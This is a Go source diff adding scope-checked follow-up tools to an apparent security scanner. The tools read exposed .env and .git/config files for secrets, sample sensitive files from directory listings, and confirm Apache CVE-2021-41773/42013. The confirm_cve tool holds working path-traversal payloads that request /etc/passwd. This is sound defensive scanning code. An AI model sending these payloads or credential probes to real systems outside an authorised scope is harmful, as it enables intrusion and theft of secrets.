@@ -1,0 +1,402 @@
+package followup
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/url"
+	"path"
+	"regexp"
+	"strconv"
+	"strings"
+	"time"
+	"unicode/utf8"
+
+	"secscan/shared/scanners/code"
+	"secscan/shared/scanners/internal/httpprobe"
+	"secscan/shared/scans"
+	"secscan/shared/tools"
+)
+
+// FileSecrets is the file_secrets tool.
+type FileSecrets struct {
+	meta
+	opts httpprobe.Options
+}
+
+// NewFileSecrets returns the file_secrets tool.
+func NewFileSecrets(opts ...Option) tools.Tool {
+	return &FileSecrets{meta{
+		name: "file_secrets",
+		description: "Reads an exposed configuration file (an .env file, or .git/config of an exposed repository) of at " +
+			"most 64 KiB and runs the secret detectors over it (gitleaks' rules plus database connection URLs), reporting " +
+			"each credential type as its own finding, redacted. Use it on an exposed .env, config or .git finding.",
+		schema: urlSchema, cost: 3, timeout: 12 * time.Second,
+	}, httpprobe.NewOptions(opts)}
+}
+
+const configBody = 64 << 10
+
+// Run implements tools.Tool.
+func (t *FileSecrets) Run(ctx context.Context, env tools.Env, raw json.RawMessage) (tools.Result, error) {
+	u, err := urlInput(env, raw)
+	if err != nil {
+		return tools.Result{}, err
+	}
+	// An exposed repository leaks credentials in its config (remote URLs
+	// with tokens), not in HEAD.
+	if i := strings.Index(u.Path, "/.git/"); i >= 0 || strings.HasSuffix(u.Path, "/.git") {
+		if i < 0 {
+			i = len(u.Path) - len("/.git")
+		}
+		u.Path, u.RawPath = u.Path[:i]+"/.git/config", ""
+	}
+	ctx, cancel := context.WithTimeout(ctx, httpprobe.CallBudget(t.timeout))
+	defer cancel()
+	client, err := httpprobe.NewClient(env, t.opts.RootCAs)
+	if err != nil {
+		return tools.Result{}, err
+	}
+	defer client.Close()
+	resp, err := client.Do(ctx, httpprobe.Request{URL: u, MaxBody: configBody})
+	if err != nil {
+		return tools.Result{}, fmt.Errorf("file_secrets: %s", httpprobe.Describe(err))
+	}
+	if resp.Status != http.StatusOK || strings.Contains(resp.ContentType(), "html") || !utf8.Valid(resp.Body) {
+		return tools.Result{Outcome: resp.Summary() + ": not a configuration file, nothing scanned"}, nil
+	}
+	findings, err := code.ScanConfigFile(ctx, u, string(resp.Body))
+	if err != nil {
+		return tools.Result{}, fmt.Errorf("file_secrets: %w", err)
+	}
+	var kinds []string
+	for _, f := range findings {
+		kinds = append(kinds, f.Title)
+	}
+	outcome := fmt.Sprintf("%s: %d credential types", resp.Summary(), len(findings))
+	if len(kinds) > 0 {
+		outcome += " (" + strings.Join(kinds, "; ") + ")"
+	}
+	return tools.Result{Outcome: outcome, Findings: findings}, nil
+}
+
+// ListingFiles is the listing_files tool.
+type ListingFiles struct {
+	meta
+	opts httpprobe.Options
+}
+
+// NewListingFiles returns the listing_files tool.
+func NewListingFiles(opts ...Option) tools.Tool {
+	return &ListingFiles{meta{
+		name: "listing_files",
+		description: "Reads a directory listing page, classifies its entries by name (database dumps, archives, backups, " +
+			"private keys) and asks for at most the first 4 KiB of each classified file (10 at most) to report those " +
+			"actually served, with size and type as evidence. Use it on a directory listing finding.",
+		schema: urlSchema, cost: 3, timeout: 15 * time.Second,
+	}, httpprobe.NewOptions(opts)}
+}
+
+const (
+	maxListed   = 10
+	prefixBytes = 4 << 10
+)
+
+// fileClass is what a listed file is, by name.
+type fileClass struct {
+	kind     string // "database dump", ...
+	severity scans.Severity
+	match    func(name string) bool
+}
+
+func suffixes(ss ...string) func(string) bool {
+	return func(n string) bool {
+		for _, s := range ss {
+			if strings.HasSuffix(n, s) {
+				return true
+			}
+		}
+		return false
+	}
+}
+
+var fileClasses = []fileClass{
+	{"database dump", scans.Critical, suffixes(".sql", ".sql.gz", ".sql.bz2", ".sql.zip", ".dump", ".sqlite", ".sqlite3", ".db", ".mdb", ".bson")},
+	{"private key", scans.Critical, func(n string) bool {
+		return suffixes(".pem", ".key", ".p12", ".pfx", ".ppk", ".jks")(n) || strings.HasPrefix(n, "id_rsa") || strings.HasPrefix(n, "id_ed25519")
+	}},
+	{"archive", scans.High, suffixes(".zip", ".tar", ".tar.gz", ".tgz", ".tar.bz2", ".7z", ".rar", ".gz")},
+	{"backup file", scans.High, suffixes(".bak", ".backup", ".old", ".orig", ".save", ".swp", "~")},
+}
+
+var hrefPattern = regexp.MustCompile(`(?i)href\s*=\s*["']([^"'#?]+)["']`)
+
+// Run implements tools.Tool.
+func (t *ListingFiles) Run(ctx context.Context, env tools.Env, raw json.RawMessage) (tools.Result, error) {
+	u, err := urlInput(env, raw)
+	if err != nil {
+		return tools.Result{}, err
+	}
+	if !strings.HasSuffix(u.Path, "/") {
+		u.Path, u.RawPath = path.Dir(u.Path)+"/", ""
+	}
+	ctx, cancel := context.WithTimeout(ctx, httpprobe.CallBudget(t.timeout))
+	defer cancel()
+	client, err := httpprobe.NewClient(env, t.opts.RootCAs)
+	if err != nil {
+		return tools.Result{}, err
+	}
+	defer client.Close()
+	page, err := client.Do(ctx, httpprobe.Request{URL: u, MaxBody: 256 << 10})
+	if err != nil {
+		return tools.Result{}, fmt.Errorf("listing_files: %s", httpprobe.Describe(err))
+	}
+	if page.Status != http.StatusOK {
+		return tools.Result{Outcome: page.Summary() + ": no listing"}, nil
+	}
+	type entry struct {
+		u     *url.URL
+		name  string
+		class fileClass
+	}
+	var entries []entry
+	seen := map[string]bool{}
+	listed := 0
+	for _, m := range hrefPattern.FindAllSubmatch(page.Body, 1000) {
+		ref, err := u.Parse(string(m[1]))
+		if err != nil || !httpprobe.SameOrigin(ref, u) || path.Dir(ref.Path)+"/" != u.Path || seen[ref.Path] {
+			continue // only the listed directory's own files
+		}
+		seen[ref.Path] = true
+		listed++
+		name := strings.ToLower(path.Base(ref.Path))
+		for _, c := range fileClasses {
+			if c.match(name) {
+				if len(entries) < maxListed {
+					entries = append(entries, entry{ref, path.Base(ref.Path), c})
+				}
+				break
+			}
+		}
+	}
+	var findings []scans.Finding
+	for _, e := range entries {
+		if ctx.Err() != nil {
+			break
+		}
+		resp, err := client.Do(ctx, httpprobe.Request{URL: e.u, MaxBody: prefixBytes,
+			Header: http.Header{"Range": {"bytes=0-" + strconv.Itoa(prefixBytes-1)}}})
+		if err != nil || (resp.Status != http.StatusOK && resp.Status != http.StatusPartialContent) || strings.Contains(resp.ContentType(), "html") {
+			continue
+		}
+		size := sizeOf(resp)
+		evidence := fmt.Sprintf("Listed in %s and served: GET %s → %d, %s, content: %s (first %d bytes read, nothing more downloaded)",
+			httpprobe.Clean(u.String(), 300), httpprobe.Clean(e.u.String(), 300), resp.Status, size, sniff(resp.Body), len(resp.Body))
+		host, port := httpprobe.HostPort(e.u)
+		cwe := "CWE-530"
+		findings = append(findings, scans.Finding{
+			Title:    fmt.Sprintf("%s downloadable from a directory listing: %s", capitalize(e.class.kind), httpprobe.Clean(e.u.EscapedPath(), 200)),
+			Severity: e.class.severity, Category: scans.CategoryWeb, Host: host, Port: &port,
+			Evidence: httpprobe.Clean(evidence, 1500),
+			Description: fmt.Sprintf("The directory listing shows a %s and the server hands it to anyone who asks. Backups and dumps "+
+				"usually hold the data the application protects (customer records, password hashes, secrets).", e.class.kind),
+			Remediation: "Remove the file from the web root now, turn off directory listings (Options -Indexes, autoindex off), " +
+				"and treat what the file contains as disclosed: rotate credentials and assess the data exposed.",
+			References: []string{"https://cwe.mitre.org/data/definitions/530.html", "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/02-Configuration_and_Deployment_Management_Testing/04-Review_Old_Backup_and_Unreferenced_Files_for_Sensitive_Information"},
+			CWE:        &cwe, Confidence: scans.Certain,
+		})
+	}
+	return tools.Result{
+		Outcome:  fmt.Sprintf("%s lists %d files; %d look sensitive by name; %d served", httpprobe.Clean(u.String(), 300), listed, len(entries), len(findings)),
+		Findings: findings,
+	}, nil
+}
+
+// sizeOf is the file's size from Content-Range or Content-Length.
+func sizeOf(r *httpprobe.Response) string {
+	if cr := r.Header.Get("Content-Range"); cr != "" {
+		if _, total, ok := strings.Cut(cr, "/"); ok && total != "*" {
+			return total + " bytes"
+		}
+	}
+	if cl := r.Header.Get("Content-Length"); cl != "" && r.Status == http.StatusOK {
+		return cl + " bytes"
+	}
+	return "size unknown"
+}
+
+// sniff names a file's type from its first bytes.
+func sniff(b []byte) string {
+	s := string(b)
+	switch {
+	case len(b) >= 2 && b[0] == 0x1f && b[1] == 0x8b:
+		return "gzip-compressed data"
+	case strings.HasPrefix(s, "PK\x03\x04"):
+		return "ZIP archive"
+	case strings.HasPrefix(s, "SQLite format 3"):
+		return "SQLite database"
+	case strings.Contains(s, "-----BEGIN") && strings.Contains(s, "PRIVATE KEY"):
+		return "PEM private key (not shown)"
+	case strings.Contains(s, "-- MySQL dump") || strings.Contains(s, "PostgreSQL database dump") ||
+		strings.Contains(strings.ToUpper(s), "CREATE TABLE") || strings.Contains(strings.ToUpper(s), "INSERT INTO"):
+		return "SQL dump text (\"" + httpprobe.Clean(firstLine(s), 80) + "\")"
+	}
+	return httpprobe.Clean(http.DetectContentType(b), 60)
+}
+
+func firstLine(s string) string {
+	line, _, _ := strings.Cut(s, "\n")
+	return line
+}
+
+func capitalize(s string) string { return strings.ToUpper(s[:1]) + s[1:] }
+
+// ConfirmCVE is the confirm_cve tool.
+type ConfirmCVE struct {
+	meta
+	opts httpprobe.Options
+}
+
+// NewConfirmCVE returns the confirm_cve tool.
+func NewConfirmCVE(opts ...Option) tools.Tool {
+	return &ConfirmCVE{meta{
+		name: "confirm_cve",
+		description: "Confirms a critical vulnerability matched by version with one safe, read-only request and reports it " +
+			"as certain with the request and the answer as evidence: CVE-2021-41773 and CVE-2021-42013 (Apache HTTP " +
+			"Server 2.4.49/2.4.50 path traversal: asks for /etc/passwd outside the document root; writes nothing, runs nothing).",
+		schema: `{
+  "type": "object",
+  "additionalProperties": false,
+  "required": ["host", "port", "cve"],
+  "properties": {
+    "host": {"type": "string"},
+    "port": {"type": "integer", "minimum": 1, "maximum": 65535},
+    "cve": {"type": "string", "enum": ["CVE-2021-41773", "CVE-2021-42013"]}
+  }
+}`, cost: 2, timeout: 10 * time.Second,
+	}, httpprobe.NewOptions(opts)}
+}
+
+// ConfirmableCVEs are the CVEs confirm_cve can confirm.
+func ConfirmableCVEs() []string { return []string{"CVE-2021-41773", "CVE-2021-42013"} }
+
+// traversal is one read-only request of the Apache 2.4.49/2.4.50 path
+// traversal: encoded dot segments a vulnerable server maps outside the
+// document root. The 2.4.50 variant double-encodes the dot (%%32%65), which
+// is not valid percent-encoding, so the path is sent verbatim.
+type traversal struct {
+	cve, path string
+}
+
+// traversals per CVE asked for: 2.4.49 falls to both payloads, 2.4.50 only
+// to the double-encoded one, so either question tries both.
+var traversals = map[string][]traversal{
+	"CVE-2021-41773": {
+		{"CVE-2021-41773", "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"},
+		{"CVE-2021-41773", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"},
+		{"CVE-2021-42013", "/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd"},
+	},
+}
+
+func init() { traversals["CVE-2021-42013"] = traversals["CVE-2021-41773"] }
+
+var passwdRoot = regexp.MustCompile(`(?m)^root:[^:\n]*:0:0:`)
+
+// Run implements tools.Tool.
+func (t *ConfirmCVE) Run(ctx context.Context, env tools.Env, raw json.RawMessage) (tools.Result, error) {
+	var in struct {
+		Host string `json:"host"`
+		Port int    `json:"port"`
+		CVE  string `json:"cve"`
+	}
+	if err := tools.DecodeInput(raw, &in); err != nil {
+		return tools.Result{}, err
+	}
+	host, err := scopedHost(env, in.Host)
+	if err != nil {
+		return tools.Result{}, err
+	}
+	paths, ok := traversals[in.CVE]
+	if !ok {
+		return tools.Result{}, tools.Refuse("no safe confirmation for %q", in.CVE)
+	}
+	if in.Port < 1 || in.Port > 65535 {
+		return tools.Result{}, tools.Refuse("port %d is out of range (1-65535)", in.Port)
+	}
+	ctx, cancel := context.WithTimeout(ctx, httpprobe.CallBudget(t.timeout))
+	defer cancel()
+	client, err := httpprobe.NewClient(env, t.opts.RootCAs)
+	if err != nil {
+		return tools.Result{}, err
+	}
+	defer client.Close()
+	var tried []string
+	for _, scheme := range []string{"https", "http"} {
+		for _, tr := range paths {
+			u := httpprobe.SiteURL(scheme, host, in.Port)
+			if err := httpprobe.CheckURL(env, u); err != nil {
+				return tools.Result{}, tools.Refuse("%v", err)
+			}
+			// Opaque "//host/path" is sent as the request target verbatim.
+			u.Path, u.Opaque = "", "//"+u.Host+tr.path
+			resp, err := client.Do(ctx, httpprobe.Request{URL: u, MaxBody: 8 << 10})
+			shown := scheme + "://" + u.Host + tr.path
+			if err != nil {
+				tried = append(tried, "GET "+shown+": "+httpprobe.Describe(err))
+				break // this scheme does not answer
+			}
+			tried = append(tried, fmt.Sprintf("GET %s → %d", shown, resp.Status))
+			if resp.Status == http.StatusOK && passwdRoot.Match(resp.Body) {
+				return tools.Result{
+					Outcome:  fmt.Sprintf("%s confirmed on %s:%d: the server returned /etc/passwd from outside the document root", tr.cve, host, in.Port),
+					Findings: []scans.Finding{confirmedTraversal(tr.cve, host, in.Port, shown, resp)},
+				}, nil
+			}
+		}
+	}
+	return tools.Result{Outcome: in.CVE + " not confirmed (the version may be patched or the paths protected): " + strings.Join(tried, "; ")}, nil
+}
+
+func confirmedTraversal(cve, host string, port int, request string, resp *httpprobe.Response) scans.Finding {
+	root := passwdRoot.Find(resp.Body)
+	line, _, _ := strings.Cut(string(resp.Body[passwdIndex(resp.Body, root):]), "\n")
+	cvss := 9.8
+	if cve == "CVE-2021-41773" {
+		cvss = 7.5
+	}
+	cwe := "CWE-22"
+	return scans.Finding{
+		Title:    fmt.Sprintf("Apache HTTP Server path traversal confirmed (%s)", cve),
+		Severity: scans.Critical, Category: scans.CategoryVuln, Host: host, Port: &port,
+		Evidence: httpprobe.Clean(fmt.Sprintf("Request: GET %s (encoded dot segments, read-only). Response: %d %s, %d bytes, starting with the "+
+			"system's password file: %q (the rest is not kept).", request, resp.Status, resp.ContentType(), len(resp.Body), line), 1500),
+		Description: "The server maps encoded dot segments outside the document root and returned /etc/passwd: any file the server " +
+			"process can read is disclosed, and with mod_cgi enabled the same flaw executes commands. Confirmed with a read-only request.",
+		Remediation: "Upgrade Apache HTTP Server to 2.4.51 or later now, and make sure the filesystem root is protected with " +
+			"'Require all denied'. Review the access logs for earlier requests with %2e segments.",
+		References: []string{"https://httpd.apache.org/security/vulnerabilities_24.html", "https://nvd.nist.gov/vuln/detail/" + cve},
+		CWE:        &cwe, CVE: &cve, CVSS: &cvss, Confidence: scans.Certain,
+	}
+}
+
+func passwdIndex(body, match []byte) int {
+	if i := strings.Index(string(body), string(match)); i >= 0 {
+		return i
+	}
+	return 0
+}
+
+// urlInput decodes {"url"} and checks it against the scope.
+func urlInput(env tools.Env, raw json.RawMessage) (*url.URL, error) {
+	var in struct {
+		URL string `json:"url"`
+	}
+	if err := tools.DecodeInput(raw, &in); err != nil {
+		return nil, err
+	}
+	if in.URL == "" {
+		return nil, tools.Refuse("url is required")
+	}
+	return httpprobe.ParseTarget(env, in.URL)
+}
